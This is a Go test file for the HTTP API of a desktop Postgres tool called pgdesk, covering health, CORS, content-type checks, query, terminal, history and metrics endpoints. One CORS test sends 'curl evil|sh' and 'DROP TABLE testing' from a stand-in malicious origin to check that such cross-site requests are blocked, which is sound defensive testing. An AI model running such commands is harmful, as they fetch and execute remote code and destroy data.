package api

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/nerrad567/pgdesk/internal/actions"
	"github.com/nerrad567/pgdesk/internal/gateway"
	"github.com/nerrad567/pgdesk/internal/history"
	"github.com/nerrad567/pgdesk/internal/infrastructure/config"
	"github.com/nerrad567/pgdesk/internal/infrastructure/logging"
	"github.com/nerrad567/pgdesk/internal/metrics"
	"github.com/nerrad567/pgdesk/internal/pgembed"
)

// fakeCommands records calls and returns canned results.
type fakeCommands struct {
	mu         sync.Mutex
	statements []string
	formats    []gateway.Format
	writes     []string
	resizes    [][2]uint16
	result     map[gateway.Format]string
	writeErr   error
	resizeErr  error
	sizeErr    error
	rows, cols uint16
}

func newFakeCommands() *fakeCommands {
	return &fakeCommands{
		result: map[gateway.Format]string{
			gateway.FormatPipe: "?column?|1",
			gateway.FormatJSON: `{"rows":[{"?column?":"1"}],"command":"SELECT 1"}`,
		},
		rows: 24,
		cols: 80,
	}
}

func (f *fakeCommands) RunQueryFormat(_ context.Context, statement string, format gateway.Format) (string, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.statements = append(f.statements, statement)
	f.formats = append(f.formats, format)
	return f.result[format], nil
}

func (f *fakeCommands) WriteTerminal(data string) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.writeErr != nil {
		return f.writeErr
	}
	f.writes = append(f.writes, data)
	return nil
}

func (f *fakeCommands) ResizeTerminal(rows, cols uint16) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.resizeErr != nil {
		return f.resizeErr
	}
	f.resizes = append(f.resizes, [2]uint16{rows, cols})
	f.rows, f.cols = rows, cols
	return nil
}

func (f *fakeCommands) TerminalSize() (uint16, uint16, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.sizeErr != nil {
		return 0, 0, f.sizeErr
	}
	return f.rows, f.cols, nil
}

func (f *fakeCommands) lastWrite() string {
	f.mu.Lock()
	defer f.mu.Unlock()
	if len(f.writes) == 0 {
		return ""
	}
	return f.writes[len(f.writes)-1]
}

type fakeEngine struct {
	running bool
}

func (e fakeEngine) IsRunning() bool { return e.running }

func (e fakeEngine) Stats() pgembed.Stats {
	status := "stopped"
	if e.running {
		status = "running"
	}
	return pgembed.Stats{Status: status, Port: 5432, Uptime: 90 * time.Second, Persistent: true}
}

// fakeHistory is an in-memory history.Repository.
type fakeHistory struct {
	entries    []history.Entry
	lastFilter history.Filter
	listErr    error
}

func (h *fakeHistory) Record(_ context.Context, e *history.Entry) error {
	h.entries = append(h.entries, *e)
	return nil
}

func (h *fakeHistory) Get(_ context.Context, id string) (*history.Entry, error) {
	for _, e := range h.entries {
		if e.ID == id {
			return &e, nil
		}
	}
	return nil, fmt.Errorf("%w: %s", history.ErrNotFound, id)
}

func (h *fakeHistory) List(_ context.Context, f history.Filter) (*history.ListResult, error) {
	h.lastFilter = f
	if h.listErr != nil {
		return nil, h.listErr
	}
	return &history.ListResult{Entries: h.entries, Total: len(h.entries), Limit: 50}, nil
}

type testDeps struct {
	commands *fakeCommands
	history  *fakeHistory
}

// testServer creates a Server with fake collaborators.
func testServer(t *testing.T, mutate ...func(*Deps)) (*Server, testDeps) {
	t.Helper()

	td := testDeps{
		commands: newFakeCommands(),
		history:  &fakeHistory{},
	}
	deps := Deps{
		Config: config.APIConfig{
			Host: "127.0.0.1",
			Port: 0,
			Timeouts: config.APITimeoutConfig{
				Read:  5,
				Write: 5,
				Idle:  5,
			},
		},
		WS: config.WebSocketConfig{
			Path:           "/ws",
			MaxMessageSize: 8192,
			PingInterval:   30,
			PongTimeout:    10,
		},
		Logger:   logging.Discard(),
		Commands: td.commands,
		Engine:   fakeEngine{running: true},
		History:  td.history,
		Version:  "test",
	}
	for _, m := range mutate {
		m(&deps)
	}

	srv, err := New(deps)
	if err != nil {
		t.Fatalf("New() error: %v", err)
	}
	return srv, td
}

func doRequest(t *testing.T, srv *Server, method, path, body string) *httptest.ResponseRecorder {
	t.Helper()
	var req *http.Request
	if body == "" {
		req = httptest.NewRequest(method, path, nil)
	} else {
		req = httptest.NewRequest(method, path, strings.NewReader(body))
		req.Header.Set("Content-Type", "application/json")
	}
	w := httptest.NewRecorder()
	srv.buildRouter().ServeHTTP(w, req)
	return w
}

func decodeBody(t *testing.T, w *httptest.ResponseRecorder, v any) {
	t.Helper()
	if err := json.Unmarshal(w.Body.Bytes(), v); err != nil {
		t.Fatalf("unmarshal %q: %v", w.Body.String(), err)
	}
}

func TestNew_RequiresCommands(t *testing.T) {
	_, err := New(Deps{Logger: logging.Discard()})
	if err == nil {
		t.Fatal("New() without commands should fail")
	}
	_, err = New(Deps{Commands: newFakeCommands()})
	if err == nil {
		t.Fatal("New() without logger should fail")
	}
}

func TestHealth(t *testing.T) {
	srv, _ := testServer(t)
	w := doRequest(t, srv, http.MethodGet, "/api/v1/health", "")

	if w.Code != http.StatusOK {
		t.Errorf("health status = %d, want %d", w.Code, http.StatusOK)
	}

	var resp map[string]any
	decodeBody(t, w, &resp)

	if resp["status"] != "ok" {
		t.Errorf("status = %v, want ok", resp["status"])
	}
	if resp["version"] != "test" {
		t.Errorf("version = %v, want test", resp["version"])
	}
	if resp["engine"] != "running" {
		t.Errorf("engine = %v, want running", resp["engine"])
	}
}

func TestHealth_EngineStopped(t *testing.T) {
	srv, _ := testServer(t, func(d *Deps) { d.Engine = fakeEngine{running: false} })
	w := doRequest(t, srv, http.MethodGet, "/api/v1/health", "")

	if w.Code != http.StatusOK {
		t.Errorf("health status = %d, want %d", w.Code, http.StatusOK)
	}
	var resp map[string]any
	decodeBody(t, w, &resp)
	if resp["status"] != "degraded" {
		t.Errorf("status = %v, want degraded", resp["status"])
	}
	if resp["engine"] != "stopped" {
		t.Errorf("engine = %v, want stopped", resp["engine"])
	}
}

func TestHealth_ContentType(t *testing.T) {
	srv, _ := testServer(t)
	w := doRequest(t, srv, http.MethodGet, "/api/v1/health", "")

	ct := w.Header().Get("Content-Type")
	if ct != "application/json" {
		t.Errorf("Content-Type = %q, want %q", ct, "application/json")
	}
}

// ─── Middleware Tests ──────────────────────────────────────────────

func TestRequestID_Generated(t *testing.T) {
	srv, _ := testServer(t)
	w := doRequest(t, srv, http.MethodGet, "/api/v1/health", "")

	if w.Header().Get("X-Request-ID") == "" {
		t.Error("expected X-Request-ID header to be set")
	}
}

func TestRequestID_PreservesClient(t *testing.T) {
	srv, _ := testServer(t)

	req := httptest.NewRequest(http.MethodGet, "/api/v1/health", nil)
	req.Header.Set("X-Request-ID", "client-123")
	w := httptest.NewRecorder()
	srv.buildRouter().ServeHTTP(w, req)

	if got := w.Header().Get("X-Request-ID"); got != "client-123" {
		t.Errorf("X-Request-ID = %q, want %q", got, "client-123")
	}
}

func TestCORS_Preflight(t *testing.T) {
	srv, _ := testServer(t, func(d *Deps) {
		d.Config.CORS.AllowedOrigins = []string{"tauri://localhost"}
	})

	req := httptest.NewRequest(http.MethodOptions, "/api/v1/query", nil)
	req.Header.Set("Origin", "tauri://localhost")
	w := httptest.NewRecorder()
	srv.buildRouter().ServeHTTP(w, req)

	if w.Code != http.StatusNoContent {
		t.Errorf("preflight status = %d, want %d", w.Code, http.StatusNoContent)
	}
	if got := w.Header().Get("Access-Control-Allow-Origin"); got != "tauri://localhost" {
		t.Errorf("ACAO = %q, want %q", got, "tauri://localhost")
	}
}

func TestCORS_DisallowedOrigin(t *testing.T) {
	srv, _ := testServer(t, func(d *Deps) {
		d.Config.CORS.AllowedOrigins = []string{"http://localhost:1420"}
	})

	req := httptest.NewRequest(http.MethodGet, "/api/v1/health", nil)
	req.Header.Set("Origin", "http://evil.example")
	w := httptest.NewRecorder()
	srv.buildRouter().ServeHTTP(w, req)

	if w.Code != http.StatusForbidden {
		t.Errorf("status = %d, want %d", w.Code, http.StatusForbidden)
	}
	if got := w.Header().Get("Access-Control-Allow-Origin"); got != "" {
		t.Errorf("ACAO = %q, want empty for disallowed origin", got)
	}
}

// TestCORS_DisallowedOriginCannotWrite verifies a cross-site page cannot
// drive the terminal or the engine, whatever Content-Type it declares.
func TestCORS_DisallowedOriginCannotWrite(t *testing.T) {
	srv, td := testServer(t, func(d *Deps) {
		d.Config.CORS.AllowedOrigins = []string{"tauri://localhost"}
	})

	tests := []struct {
		path        string
		body        string
		contentType string
	}{
		{"/api/v1/terminal/write", `{"data":"curl evil|sh\n"}`, "text/plain"},
		{"/api/v1/terminal/write", `{"data":"curl evil|sh\n"}`, "application/json"},
		{"/api/v1/query", `{"statement":"DROP TABLE testing"}`, "text/plain"},
		{"/api/v1/query", `{"statement":"DROP TABLE testing"}`, "application/json"},
	}
	for _, tt := range tests {
		req := httptest.NewRequest(http.MethodPost, tt.path, strings.NewReader(tt.body))
		req.Header.Set("Origin", "http://evil.example")
		req.Header.Set("Content-Type", tt.contentType)
		w := httptest.NewRecorder()
		srv.buildRouter().ServeHTTP(w, req)

		if w.Code != http.StatusForbidden {
			t.Errorf("POST %s (%s) status = %d, want %d", tt.path, tt.contentType, w.Code, http.StatusForbidden)
		}
	}

	if got := td.commands.lastWrite(); got != "" {
		t.Errorf("terminal received %q from a disallowed origin", got)
	}
	td.commands.mu.Lock()
	defer td.commands.mu.Unlock()
	if len(td.commands.statements) != 0 {
		t.Errorf("statements run from a disallowed origin: %v", td.commands.statements)
	}
}

func TestCORS_AllowedAndSameOrigin(t *testing.T) {
	srv, td := testServer(t, func(d *Deps) {
		d.Config.CORS.AllowedOrigins = []string{"tauri://localhost"}
	})

	for _, origin := range []string{"", "tauri://localhost", "http://example.com"} {
		req := httptest.NewRequest(http.MethodPost, "http://example.com/api/v1/terminal/write", strings.NewReader(`{"data":"ls\r"}`))
		req.Header.Set("Content-Type", "application/json")
		if origin != "" {
			req.Header.Set("Origin", origin)
		}
		w := httptest.NewRecorder()
		srv.buildRouter().ServeHTTP(w, req)

		if w.Code != http.StatusOK {
			t.Errorf("origin %q: status = %d, want %d", origin, w.Code, http.StatusOK)
		}
	}
	if got := td.commands.lastWrite(); got != "ls\r" {
		t.Errorf("lastWrite = %q, want %q", got, "ls\r")
	}
}

func TestCORS_EmptyListIsSameOriginOnly(t *testing.T) {
	srv, _ := testServer(t)

	req := httptest.NewRequest(http.MethodGet, "/api/v1/health", nil)
	req.Header.Set("Origin", "http://localhost:1420")
	w := httptest.NewRecorder()
	srv.buildRouter().ServeHTTP(w, req)

	if w.Code != http.StatusForbidden {
		t.Errorf("status = %d, want %d", w.Code, http.StatusForbidden)
	}
}

func TestPost_RequiresJSONContentType(t *testing.T) {
	srv, td := testServer(t)

	for _, ct := range []string{"", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"} {
		req := httptest.NewRequest(http.MethodPost, "/api/v1/terminal/write", strings.NewReader(`{"data":"id\n"}`))
		if ct != "" {
			req.Header.Set("Content-Type", ct)
		}
		w := httptest.NewRecorder()
		srv.buildRouter().ServeHTTP(w, req)

		if w.Code != http.StatusUnsupportedMediaType {
			t.Errorf("Content-Type %q: status = %d, want %d", ct, w.Code, http.StatusUnsupportedMediaType)
		}
	}
	if got := td.commands.lastWrite(); got != "" {
		t.Errorf("terminal received %q without a JSON content type", got)
	}

	req := httptest.NewRequest(http.MethodPost, "/api/v1/terminal/write", strings.NewReader(`{"data":"id\n"}`))
	req.Header.Set("Content-Type", "application/json; charset=utf-8")
	w := httptest.NewRecorder()
	srv.buildRouter().ServeHTTP(w, req)
	if w.Code != http.StatusOK {
		t.Errorf("charset parameter: status = %d, want %d", w.Code, http.StatusOK)
	}
}

func TestBodySizeLimit(t *testing.T) {
	srv, td := testServer(t)
	big := `{"data":"` + strings.Repeat("x", maxRequestBodySize) + `"}`

	w := doRequest(t, srv, http.MethodPost, "/api/v1/terminal/write", big)
	if w.Code != http.StatusBadRequest {
		t.Errorf("status = %d, want %d", w.Code, http.StatusBadRequest)
	}
	if td.commands.lastWrite() != "" {
		t.Error("oversized body reached the terminal")
	}
}

func TestNotFound(t *testing.T) {
	srv, _ := testServer(t)
	w := doRequest(t, srv, http.MethodGet, "/api/v1/nonexistent", "")

	if w.Code != http.StatusNotFound {
		t.Errorf("unknown route status = %d, want %d", w.Code, http.StatusNotFound)
	}
}

// ─── Greet ─────────────────────────────────────────────────────────

func TestGreet(t *testing.T) {
	tests := []struct {
		query string
		want  string
	}{
		{"?name=Ada", "Hello, Ada! You've been greeted from pgdesk!"},
		{"", "Hello, stranger! You've been greeted from pgdesk!"},
	}
	srv, _ := testServer(t)

	for _, tt := range tests {
		w := doRequest(t, srv, http.MethodGet, "/api/v1/greet"+tt.query, "")
		var resp map[string]string
		decodeBody(t, w, &resp)
		if resp["message"] != tt.want {
			t.Errorf("greet%s = %q, want %q", tt.query, resp["message"], tt.want)
		}
	}
}

// ─── Query ─────────────────────────────────────────────────────────

func TestQuery_Pipe(t *testing.T) {
	srv, td := testServer(t)
	w := doRequest(t, srv, http.MethodPost, "/api/v1/query", `{"statement":"SELECT 1"}`)

	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, want 200: %s", w.Code, w.Body.String())
	}

	var resp struct {
		Format string `json:"format"`
		Result string `json:"result"`
	}
	decodeBody(t, w, &resp)

	if resp.Format != "pipe" {
		t.Errorf("format = %q, want pipe", resp.Format)
	}
	if resp.Result != "?column?|1" {
		t.Errorf("result = %q, want %q", resp.Result, "?column?|1")
	}
	if td.commands.statements[0] != "SELECT 1" {
		t.Errorf("statement = %q, want SELECT 1", td.commands.statements[0])
	}
}

func TestQuery_JSONEmbedsObject(t *testing.T) {
	srv, _ := testServer(t)
	w := doRequest(t, srv, http.MethodPost, "/api/v1/query", `{"statement":"SELECT 1","format":"JSON"}`)

	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, want 200: %s", w.Code, w.Body.String())
	}

	var resp struct {
		Format string `json:"format"`
		Result struct {
			Rows    []map[string]string `json:"rows"`
			Command string              `json:"command"`
		} `json:"result"`
	}
	decodeBody(t, w, &resp)

	if resp.Format != "json" {
		t.Errorf("format = %q, want json", resp.Format)
	}
	if len(resp.Result.Rows) != 1 || resp.Result.Rows[0]["?column?"] != "1" {
		t.Errorf("rows = %v", resp.Result.Rows)
	}
	if resp.Result.Command != "SELECT 1" {
		t.Errorf("command = %q, want SELECT 1", resp.Result.Command)
	}
}

func TestQuery_DefaultFormat(t *testing.T) {
	srv, td := testServer(t, func(d *Deps) { d.DefaultFormat = gateway.FormatJSON })
	w := doRequest(t, srv, http.MethodPost, "/api/v1/query", `{"statement":"SELECT 1"}`)

	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, want 200", w.Code)
	}
	if td.commands.formats[0] != gateway.FormatJSON {
		t.Errorf("format = %q, want json", td.commands.formats[0])
	}
}

func TestQuery_StatementErrorIsData(t *testing.T) {
	srv, td := testServer(t)
	td.commands.result[gateway.FormatPipe] = `ERROR: syntax error at or near "SELEC" (SQLSTATE 42601)`

	w := doRequest(t, srv, http.MethodPost, "/api/v1/query", `{"statement":"SELEC 1"}`)

	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, want 200 for a failed statement", w.Code)
	}
	var resp QueryResponse
	decodeBody(t, w, &resp)
	var text string
	if err := json.Unmarshal(resp.Result, &text); err != nil {
		t.Fatalf("result is not a string: %v", err)
	}
	if !strings.Contains(text, "42601") {
		t.Errorf("result = %q, want error text", text)
	}
}

func TestQuery_BadRequests(t *testing.T) {
	tests := []struct {
		name string
		body string
	}{
		{"invalid json", `{"statement":`},
		{"empty statement", `{"statement":"   "}`},
		{"unknown format", `{"statement":"SELECT 1","format":"csv"}`},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			srv, td := testServer(t)
			w := doRequest(t, srv, http.MethodPost, "/api/v1/query", tt.body)

			if w.Code != http.StatusBadRequest {
				t.Errorf("status = %d, want 400", w.Code)
			}
			if len(td.commands.statements) != 0 {
				t.Error("statement dispatched for a bad request")
			}
		})
	}
}

// ─── Terminal ──────────────────────────────────────────────────────

func TestTerminalWrite(t *testing.T) {
	srv, td := testServer(t)
	w := doRequest(t, srv, http.MethodPost, "/api/v1/terminal/write", `{"data":"ls\r"}`)

	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, want 200", w.Code)
	}
	if strings.TrimSpace(w.Body.String()) != `{"ok":true}` {
		t.Errorf("body = %s, want {\"ok\":true}", w.Body.String())
	}
	if td.commands.lastWrite() != "ls\r" {
		t.Errorf("written = %q, want %q", td.commands.lastWrite(), "ls\r")
	}
}

func TestTerminalWrite_Failure(t *testing.T) {
	srv, td := testServer(t)
	td.commands.writeErr = errors.New("input/output error")

	w := doRequest(t, srv, http.MethodPost, "/api/v1/terminal/write", `{"data":"x"}`)

	if w.Code != http.StatusInternalServerError {
		t.Errorf("status = %d, want 500", w.Code)
	}
	if strings.TrimSpace(w.Body.String()) != `{"ok":false}` {
		t.Errorf("body = %s, want {\"ok\":false}", w.Body.String())
	}
}

func TestTerminalResize(t *testing.T) {
	srv, td := testServer(t)
	w := doRequest(t, srv, http.MethodPost, "/api/v1/terminal/resize", `{"rows":40,"cols":120}`)

	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, want 200", w.Code)
	}
	if len(td.commands.resizes) != 1 || td.commands.resizes[0] != [2]uint16{40, 120} {
		t.Errorf("resizes = %v, want [[40 120]]", td.commands.resizes)
	}

	w = doRequest(t, srv, http.MethodGet, "/api/v1/terminal", "")
	var size TerminalResizeRequest
	decodeBody(t, w, &size)
	if size.Rows != 40 || size.Cols != 120 {
		t.Errorf("size = %dx%d, want 40x120", size.Rows, size.Cols)
	}
}

func TestTerminalResize_Failure(t *testing.T) {
	srv, td := testServer(t)
	td.commands.resizeErr = errors.New("invalid size")

	w := doRequest(t, srv, http.MethodPost, "/api/v1/terminal/resize", `{"rows":0,"cols":0}`)

	if w.Code != http.StatusInternalServerError {
		t.Errorf("status = %d, want 500", w.Code)
	}
	if strings.TrimSpace(w.Body.String()) != `{"ok":false}` {
		t.Errorf("body = %s, want {\"ok\":false}", w.Body.String())
	}
}

func TestTerminalSize_Unavailable(t *testing.T) {
	srv, td := testServer(t)
	td.commands.sizeErr = actions.ErrTerminalUnavailable

	w := doRequest(t, srv, http.MethodGet, "/api/v1/terminal", "")
	if w.Code != http.StatusServiceUnavailable {
		t.Errorf("status = %d, want 503", w.Code)
	}
}

// ─── Engine ────────────────────────────────────────────────────────

func TestEngine(t *testing.T) {
	srv, _ := testServer(t)
	w := doRequest(t, srv, http.MethodGet, "/api/v1/engine", "")

	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, want 200", w.Code)
	}
	var stats pgembed.Stats
	decodeBody(t, w, &stats)
	if stats.Status != "running" || stats.Port != 5432 {
		t.Errorf("stats = %+v", stats)
	}
}

func TestEngine_NotConfigured(t *testing.T) {
	srv, _ := testServer(t, func(d *Deps) { d.Engine = nil })

	w := doRequest(t, srv, http.MethodGet, "/api/v1/engine", "")
	if w.Code != http.StatusServiceUnavailable {
		t.Errorf("status = %d, want 503", w.Code)
	}

	w = doRequest(t, srv, http.MethodGet, "/api/v1/health", "")
	var resp map[string]any
	decodeBody(t, w, &resp)
	if resp["engine"] != "unavailable" {
		t.Errorf("engine = %v, want unavailable", resp["engine"])
	}
}

// ─── History ───────────────────────────────────────────────────────

func TestHistory_ListPassesFilter(t *testing.T) {
	srv, td := testServer(t)
	td.history.entries = []history.Entry{{
		ID:        "stm-1",
		Statement: "SELECT 1",
		Outcome:   history.OutcomeOK,
		RowCount:  1,
		Duration:  1500 * time.Millisecond,
		Source:    history.SourceAPI,
	}}

	w := doRequest(t, srv, http.MethodGet, "/api/v1/history?outcome=ok&source=api&search=SELECT&limit=10&offset=5", "")
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, want 200: %s", w.Code, w.Body.String())
	}

	want := history.Filter{Outcome: "ok", Source: "api", Search: "SELECT", Limit: 10, Offset: 5}
	if td.history.lastFilter != want {
		t.Errorf("filter = %+v, want %+v", td.history.lastFilter, want)
	}

	var page struct {
		Entries []struct {
			ID         string `json:"id"`
			DurationMS int64  `json:"duration_ms"`
		} `json:"entries"`
		Total int `json:"total"`
	}
	decodeBody(t, w, &page)
	if page.Total != 1 || len(page.Entries) != 1 {
		t.Fatalf("page = %+v", page)
	}
	if page.Entries[0].DurationMS != 1500 {
		t.Errorf("duration_ms = %d, want 1500", page.Entries[0].DurationMS)
	}
}

func TestHistory_ListBadParams(t *testing.T) {
	for _, q := range []string{"?limit=abc", "?offset=x", "?outcome=maybe"} {
		srv, _ := testServer(t)
		w := doRequest(t, srv, http.MethodGet, "/api/v1/history"+q, "")
		if w.Code != http.StatusBadRequest {
			t.Errorf("history%s status = %d, want 400", q, w.Code)
		}
	}
}

func TestHistory_ListError(t *testing.T) {
	srv, td := testServer(t)
	td.history.listErr = errors.New("disk I/O error")

	w := doRequest(t, srv, http.MethodGet, "/api/v1/history", "")
	if w.Code != http.StatusInternalServerError {
		t.Errorf("status = %d, want 500", w.Code)
	}
}

func TestHistory_Get(t *testing.T) {
	srv, td := testServer(t)
	td.history.entries = []history.Entry{{ID: "stm-abc", Statement: "SELECT 2"}}

	w := doRequest(t, srv, http.MethodGet, "/api/v1/history/stm-abc", "")
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, want 200", w.Code)
	}
	var e history.Entry
	decodeBody(t, w, &e)
	if e.Statement != "SELECT 2" {
		t.Errorf("statement = %q, want SELECT 2", e.Statement)
	}

	w = doRequest(t, srv, http.MethodGet, "/api/v1/history/stm-missing", "")
	if w.Code != http.StatusNotFound {
		t.Errorf("missing entry status = %d, want 404", w.Code)
	}
}

func TestHistory_Disabled(t *testing.T) {
	srv, _ := testServer(t, func(d *Deps) { d.History = nil })

	w := doRequest(t, srv, http.MethodGet, "/api/v1/history", "")
	if w.Code != http.StatusServiceUnavailable {
		t.Errorf("status = %d, want 503", w.Code)
	}
}

// ─── Metrics ───────────────────────────────────────────────────────

func TestSystemMetrics(t *testing.T) {
	srv, _ := testServer(t)
	w := doRequest(t, srv, http.MethodGet, "/api/v1/metrics", "")

	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, want 200", w.Code)
	}
	var m SystemMetrics
	decodeBody(t, w, &m)
	if m.Version != "test" {
		t.Errorf("version = %q, want test", m.Version)
	}
	if m.Runtime.Goroutines == 0 {
		t.Error("goroutines = 0")
	}
	if m.MQTT.Connected {
		t.Error("mqtt connected without a client")
	}
	if m.Engine == nil || m.Engine.UptimeSeconds != 90 {
		t.Errorf("engine = %+v, want 90s uptime", m.Engine)
	}
}

func TestPrometheusEndpoint(t *testing.T) {
	srv, _ := testServer(t, func(d *Deps) {
		d.Metrics = config.MetricsConfig{Enabled: true, Path: "/metrics"}
		d.Prometheus = metrics.New()
	})

	w := doRequest(t, srv, http.MethodGet, "/metrics", "")
	if w.Code != http.StatusOK {
		t.Fatalf("status = %d, want 200", w.Code)
	}
	if !strings.Contains(w.Body.String(), "go_goroutines") {
		t.Error("exposition missing go_goroutines")
	}
}

func TestPrometheusEndpoint_Disabled(t *testing.T) {
	srv, _ := testServer(t, func(d *Deps) {
		d.Metrics = config.MetricsConfig{Enabled: false, Path: "/metrics"}
		d.Prometheus = metrics.New()
	})

	w := doRequest(t, srv, http.MethodGet, "/metrics", "")
	if w.Code != http.StatusNotFound {
		t.Errorf("status = %d, want 404", w.Code)
	}
}

// ─── Lifecycle ─────────────────────────────────────────────────────

func TestServer_StartAndClose(t *testing.T) {
	srv, _ := testServer(t)

	if err := srv.HealthCheck(context.Background()); err == nil {
		t.Error("HealthCheck() before Start should fail")
	}

	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()

	if err := srv.Start(ctx); err != nil {
		t.Fatalf("Start() error: %v", err)
	}
	addr := srv.Addr()

	resp, err := http.Get("http://" + addr + "/api/v1/health")
	if err != nil {
		t.Fatalf("health check failed: %v", err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("health check status = %d, want 200", resp.StatusCode)
	}

	if err := srv.HealthCheck(context.Background()); err != nil {
		t.Errorf("HealthCheck() error = %v", err)
	}

	if err := srv.Close(); err != nil {
		t.Errorf("Close() error: %v", err)
	}
	if err := srv.Close(); err != nil {
		t.Errorf("second Close() error: %v", err)
	}

	if _, err := http.Get("http://" + addr + "/api/v1/health"); err == nil {
		t.Error("server still responding after Close()")
	}
}

func TestServer_StartPortInUse(t *testing.T) {
	first, _ := testServer(t)
	if err := first.Start(context.Background()); err != nil {
		t.Fatalf("Start() error: %v", err)
	}
	t.Cleanup(func() { first.Close() })

	_, port, _ := strings.Cut(first.Addr(), ":")
	second, _ := testServer(t, func(d *Deps) {
		fmt.Sscanf(port, "%d", &d.Config.Port)
	})
	if err := second.Start(context.Background()); err == nil {
		second.Close()
		t.Fatal("Start() on a bound port should fail")
	}
}

func TestServer_HealthCheck_CancelledContext(t *testing.T) {
	srv, _ := testServer(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	if err := srv.HealthCheck(ctx); !errors.Is(err, context.Canceled) {
		t.Errorf("HealthCheck() error = %v, want context.Canceled", err)
	}
}
